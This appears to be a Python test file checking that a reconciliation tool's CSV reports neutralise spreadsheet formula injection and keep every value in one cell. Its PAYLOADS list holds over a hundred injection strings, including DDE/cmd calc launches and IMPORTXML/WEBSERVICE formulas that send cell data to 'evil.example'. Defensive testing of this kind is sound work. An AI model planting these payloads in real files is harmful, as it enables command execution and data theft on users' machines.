"""Promises about the CSV files: complete, and safe to open in a spreadsheet."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reconcile.core.guards import GuardClass
from reconcile.core.plan import Action
from reconcile.report.tables import CHANGES, QUARANTINE, defused, meant, write_changes, write_quarantine
from tests.report.builders import a_change, a_row, settled

# What may not be the first thing that is seen of a cell, in both widths.
STARTS = "=+-@|%＝＋－＠｜％"
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "=2+5+cmd|'/C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=SUM(A1:A9)*1",
    "=",
    "==1",
    "=-1",
    "=@SUM(1)",
    "+1",
    "+1+cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "+",
    "++1",
    "+=1",
    "+64 21 555 0100",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "-5",
    "-",
    "--1",
    "-=1",
    "-.5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "@A1",
    "@kiwi",
    "|cmd",
    "|",
    "%0A=1",
    "%",
    "%PATH%",
    "\t=1",
    "\t",
    "\tplain",
    "\r=1",
    "\rplain",
    "\n=1",
    "\nplain",
    "\r\n=1",
    "\n\n\n=1",
    "\x0b=1",
    "\x0c=1",
    "\x00=1",
    "\x01=1",
    "\x1b=1",
    "\x7f=1",
    "\x85=1",
    " =1",
    "  =1",
    "   +1",
    " -1",
    " @A1",
    "\u00a0=1",
    "\u1680=1",
    "\u2000=1",
    "\u2003=1",
    "\u2009=1",
    "\u200b=1",
    "\u200c=1",
    "\u200d=1",
    "\u200e=1",
    "\u200f=1",
    "\u2028=1",
    "\u2029=1",
    "\u202a=1",
    "\u202e=1",
    "\u202f=1",
    "\u205f=1",
    "\u2060=1",
    "\u2066=1",
    "\u2069=1",
    "\u3000=1",
    "\ufeff=1",
    "\ufeff\u200b \t=1",
    "\u00ad=1",
    "\ue000=1",
    "\U000e0001=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "｜cmd",
    "％",
    "\u200b＝1",
    "\u3000＋1",
    " \u202e－1",
    "=\n1",
    "=\t1",
    "= 1",
    '="1"',
    "=A1&B1",
    "={1;2}",
    "=1;=2",
    "+A1,=B1",
    '-"x"',
    "@'x'",
    "=\u202e1",
    "=é",
    "+é",
]
HARMLESS = [
    "",
    "kiwi",
    "a=1",
    "1",
    '"=1"',
    "Ann-Lee",
    "ä",
    "(none)",
    '{"name":"=1"}',
    "\U0001f95d",
    "´=1",
    "0012",
]


def first_seen(cell: str) -> str:
    """Give the first character of a cell that has a shape."""
    return next((char for char in cell if unicodedata.category(char)[0] not in "CZ"), "")


def read(raw: bytes) -> list[list[str]]:
    """Read CSV as a program does."""
    return list(csv.reader(io.StringIO(raw.decode(), newline="")))


def test_there_are_a_hundred_payloads() -> None:
    """Each once."""
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_defused_in_every_cell(payload: str) -> None:
    """An apostrophe goes in front, and the text can be had back."""
    file = io.BytesIO()
    write_changes(file, [(a_change(uid=payload), settled(payload))])
    write_quarantine(file, [a_row(payload)])

    assert defused(payload) != payload
    assert meant(defused(payload)) == payload
    assert all(first_seen(cell) not in STARTS or not cell for row in read(file.getvalue()) for cell in row)


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    """An apostrophe too many spoils a comparison."""
    assert defused(text) == text


@settings(max_examples=500)
@given(st.text(), st.sampled_from(["", *STARTS, "\t", "\u200b=", " +"]))
def test_no_text_makes_a_cell_that_is_run(text: str, start: str) -> None:
    """The first thing that is seen is never the start of a formula, nor the first byte a tab or a line break."""
    cell = defused(start + text)

    assert first_seen(cell) == "" or first_seen(cell) not in STARTS
    assert cell[:1] not in {"\t", "\r", "\n"}
    assert meant(cell) == start + text


@settings(max_examples=200)
@given(st.text(st.characters(codec="utf-8")))
def test_any_text_is_one_cell(text: str) -> None:
    """Quotes, separators and line breaks do not make it two."""
    file = io.BytesIO()
    write_quarantine(file, [a_row(text)])

    assert read(file.getvalue()) == [list(QUARANTINE), ["3", defused(text), "invalid", defused(text)]]


def test_a_change_has_its_columns() -> None:
    """Those of the design, values as JSON."""
    file = io.BytesIO()
    change = a_change(fields=("name",), before={"name": "Plum"}, desired={"name": "Damson"})
    write_changes(file, [(change, settled("why")), (change, None)])
    rows = read(file.getvalue())

    assert rows[0] == list(CHANGES)
    assert rows[1] == [
        "plum",
        "update",
        "update",
        "stale",
        "name",
        '{"name":"Plum"}',
        '{"name":"Damson"}',
        "rejected",
        "why",
        "7",
    ]
    assert rows[2][7:] == ["", "", "7"]


def test_a_deactivation_has_neither_values_nor_a_row() -> None:
    """It comes from what the source does not have."""
    file = io.BytesIO()
    change = a_change(
        action=Action.DEACTIVATE,
        guard_class=GuardClass.DEACTIVATE,
        fields=(),
        before={},
        reasons=(),
        source_row=None,
    )
    write_changes(file, [(change, None)])

    assert read(file.getvalue())[1] == ["plum", "deactivate", "deactivate", "", "", "", "", "", "", ""]


def test_half_a_character_is_written_as_a_question_mark() -> None:
    """A lone surrogate has no bytes, and the file is written all the same."""
    file = io.BytesIO()
    write_quarantine(file, [a_row("pl\ud800um")])

    assert read(file.getvalue())[1][1] == "pl?um"


def test_an_empty_table_has_its_header() -> None:
    """A reader of the file needs no special case."""
    file = io.BytesIO()
    write_changes(file, [])

    assert read(file.getvalue()) == [list(CHANGES)]
